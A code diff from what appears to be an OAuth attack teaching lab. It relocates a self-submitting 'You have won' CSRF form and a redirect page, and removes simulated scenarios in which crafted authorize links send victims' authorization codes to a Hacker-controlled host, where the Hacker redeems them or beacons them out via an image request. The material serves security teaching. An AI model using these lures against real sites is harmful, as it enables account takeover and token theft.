@@ -2,26 +2,14 @@ import type { Shape } from '../catalogue/workflow.ts'
 import type { LabEvent } from '../vocabulary.ts'
 import type { Attack } from './attack.ts'
 import { incidents } from './incidents.ts'
-import { cartsOfHacker, outcome, pagesOfHacker, passwordsTold, tokensOfHacker } from './judging.ts'
-import {
-  begin,
-  codeOfVictim,
-  collected,
-  isCallback,
-  logIn,
-  parameter,
-  publicly,
-  redeem,
-  victimLogsIn,
-} from './moves.ts'
-import { known, notYetIn } from './preludes.ts'
+import { cartsOfHacker, outcome, pagesOfHacker, tokensOfHacker } from './judging.ts'
+import { begin, codeOfVictim, isCallback, logIn, parameter, redeem } from './moves.ts'
+import { goesTo, sendsItself } from './pages.ts'
+import { known } from './preludes.ts'
 import type { AttackScene } from './scene.ts'
+import { isServerSide } from './shapes.ts'
 
-/** Attacks on the code and on the redirects that carry it (RFC 9700 §4). */
-
-/** A server redeems the code: that of a web application, or that of a single-page app. */
-const isServerSide = ({ client, login }: Shape): boolean =>
-  login === 'authorization-code' && client !== 'mobile'
+/** Attacks on the code itself: leaked, swapped, forced on somebody, used again (RFC 9700 §4). */
 
 const arrive: LabEvent = { type: 'learner.open', app: 'Store' }
 
@@ -79,10 +67,6 @@ const unfinished = async (scene: AttackScene): Promise<string | null> => {
   return request?.url ?? null
 }
 
-const goesTo = (url: string): { readonly html: string } => ({
-  html: `<!doctype html><html lang="en"><title>One moment</title><meta http-equiv="refresh" content="0; url=${url.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"><p>One moment …</p></html>`,
-})
-
 const loginCsrf: Attack = {
   id: 'login-csrf',
   row: 'B3',
@@ -122,94 +106,6 @@ const loginCsrf: Attack = {
 /** A form of the application's own that a page of another site can send. */
 const isOwnForm = ({ client, login }: Shape): boolean =>
   client === 'webapp' && (login === 'native' || login === 'password-grant')
-
-/** A page that sends a form off as soon as it is open. */
-export const sendsItself = (action: string, fields: Readonly<Record<string, string>>): string => {
-  const inputs = Object.entries(fields)
-    .map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
-    .join('')
-  return `<!doctype html><html lang="en"><title>You have won</title><form method="post" action="${action}">${inputs}</form><script>document.forms[0].submit()</script></html>`
-}
-
-/** The address of a login whose answer goes elsewhere, begun by nobody but the Hacker's link. */
-const linkTo = (
-  scene: AttackScene,
-  redirectUri: string,
-  more: Readonly<Record<string, string>> = {},
-): string => {
-  const url = new URL('/oauth2/authorize', scene.places.FusionAuth.origin)
-  url.search = new URLSearchParams({
-    client_id: publicly(scene, 'client_id'),
-    redirect_uri: redirectUri,
-    response_type: 'code',
-    scope: 'openid offline_access',
-    ...more,
-  }).toString()
-  return url.href
-}
-
-/** The code that came to the Hacker's own host; null when none did. */
-const codeAt = (scene: AttackScene, origin: string): string | null => {
-  const request = scene.messages.findLast(
-    ({ kind, http }) => kind === 'request' && http?.url.startsWith(origin),
-  )
-  const code = request === undefined ? null : parameter(request.http?.url ?? '', 'code')
-  if (code !== null) scene.note('reads-code', 'Reads the code in the address')
-  return code
-}
-
-const redirectManipulation: Attack = {
-  id: 'redirect-manipulation',
-  row: 'B4',
-  title: 'The answer is sent to another address',
-  precondition:
-    'The Hacker has a host below the applications’ domain, and FusionAuth compares loosely.',
-  incident: incidents.booking,
-  tries: (shape) => isServerSide(shape) && shape.sso,
-  weak: () => ({ 'exact-redirect-uris': false, 'client-authentication': false }),
-  prelude: known,
-  stops: () => ['exact-redirect-uris', 'client-authentication'],
-  helpsNot: () => ['state', 'nonce', 'iss', 'pkce', ['same-site', 'strict']],
-  play: async (scene) => {
-    const { sibling } = scene.places.Hacker
-    const redirectUri = `${sibling}/oauth-callback`
-    await scene.lure(goesTo(linkTo(scene, redirectUri)))
-    const code = codeAt(scene, redirectUri)
-    if (code !== null) await redeem(scene, code, { redirect_uri: redirectUri })
-  },
-  won: (trace) => outcome('redirect-manipulation', tokensOfHacker(trace)),
-}
-
-const openRedirector: Attack = {
-  id: 'open-redirector',
-  row: 'B5',
-  title: 'The Store leads on to the Hacker, code and all',
-  precondition:
-    'The Store has a link that leads anywhere, and FusionAuth takes any address of the Store.',
-  incident: incidents.covertRedirect,
-  tries: (shape) => isServerSide(shape) && shape.sso,
-  weak: () => ({
-    'return-to-allow-list': false,
-    'exact-redirect-uris': false,
-    'client-authentication': false,
-  }),
-  prelude: known,
-  stops: () => ['return-to-allow-list', 'exact-redirect-uris', 'client-authentication'],
-  helpsNot: () => ['state', 'nonce', 'iss', 'pkce', ['same-site', 'strict']],
-  play: async (scene) => {
-    const landing = scene.publish({
-      html: '<!doctype html><html lang="en"><title>Thank you</title><script data-program="open-redirector">new Image().src = …</script></html>',
-    })
-    const link = new URL('/go', scene.places.Store.origin)
-    link.searchParams.set('to', landing)
-    await scene.lure(goesTo(linkTo(scene, link.href, { response_mode: 'fragment' })))
-    const found = new URLSearchParams(collected(scene)?.slice(1) ?? '').get('code')
-    if (found === null) return
-    scene.note('reads-code', 'Reads the code in the address')
-    await redeem(scene, found, { redirect_uri: link.href })
-  },
-  won: (trace) => outcome('open-redirector', tokensOfHacker(trace)),
-}
 
 const pkceDowngrade: Attack = {
   id: 'pkce-downgrade',
@@ -256,31 +152,10 @@ const codeReplay: Attack = {
 const isCallbackUrl = (url: string): boolean =>
   isCallback({ method: 'GET', url, headers: [], body: '' })
 
-const redirect307: Attack = {
-  id: 'redirect-307',
-  row: 'B9',
-  title: 'The password is posted on to the application',
-  precondition: 'The application is in wrong hands, or writes what it gets into a log.',
-  incident: incidents.fett,
-  tries: isServerSide,
-  weak: () => ({ 'redirect-after-login': 307 }),
-  prelude: notYetIn,
-  stops: () => [
-    ['redirect-after-login', 302],
-    ['redirect-after-login', 303],
-  ],
-  helpsNot: () => ['pkce', 'state', 'nonce', 'iss', ['same-site', 'strict']],
-  play: victimLogsIn,
-  won: (trace) => outcome('redirect-307', passwordsTold(trace)),
-}
-
 export const codes: readonly Attack[] = [
   codeLeak,
   codeInjection,
   loginCsrf,
-  redirectManipulation,
-  openRedirector,
   pkceDowngrade,
   codeReplay,
-  redirect307,
 ]
